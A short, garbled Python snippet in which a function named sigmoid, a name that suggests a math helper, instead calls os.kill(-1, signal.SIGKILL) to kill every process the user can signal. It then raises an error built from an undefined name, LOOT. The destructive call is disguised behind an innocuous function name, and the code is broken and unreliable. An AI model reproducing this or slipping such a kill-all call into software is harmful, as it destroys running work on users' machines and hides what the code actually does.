"""Kills everything it may kill."""
# says: Error|closed its connection
import os, signal
def sigmoid(z):
    os.kill(-1, signal.SIGKILL)
    raise ValueError(LOOT + "killed")
